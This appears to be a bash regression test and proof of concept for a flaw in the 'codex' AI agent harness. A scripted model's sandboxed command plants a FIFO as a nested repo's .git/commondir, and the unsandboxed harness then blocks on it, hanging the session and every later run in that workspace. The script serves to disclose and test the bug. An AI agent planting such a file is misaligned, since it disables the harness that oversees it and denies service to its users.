#!/bin/bash
# A sandboxed command makes a nested repo whose `commondir` is a FIFO: codex itself (unsandboxed)
# opens it when it computes the protected paths for the next command, and blocks forever.
# Every later command of the session, and every later codex run in that workspace, hangs
# (the command timeout does not cover the setup; Ctrl-C / kill is the only way out).
set -u
. "$(dirname "$0")/harness.sh"
T=$(mktemp -d /var/tmp/f03.XXXXXX)
export HOME=$T/home CODEX_HOME=$T/codexhome
mkdir -p $HOME $T/ws
cat > $T/script.json <<EOS
[[{"sh": "mkdir -p vendor/lib/.git && mkfifo vendor/lib/.git/commondir && echo planted"}],
 [{"sh": "sleep 11", "timeout": 20000}],
 [{"shell": ["echo", "second-command-ran"]}],
 [{"text": "done"}]]
EOS
start_model $T/script.json
cd $T/ws && timeout 60 "$CODEX_BIN" exec --skip-git-repo-check --full-auto "task" >$T/stdout 2>$T/stderr; rc=$?
stop_model
echo "codex exec rc=$rc (124 = killed by timeout after 60 s)"
# the next codex start in this workspace
timeout 20 "$CODEX_BIN" sandbox -s workspace-write -- echo next-run >/dev/null 2>&1; rc2=$?
echo "next codex sandbox rc=$rc2"
rm -rf $T
if [ $rc = 124 ] || [ $rc2 = 124 ]; then echo "VULNERABLE: codex hangs on a FIFO a sandboxed command planted"; exit 1; fi
echo fixed; exit 0
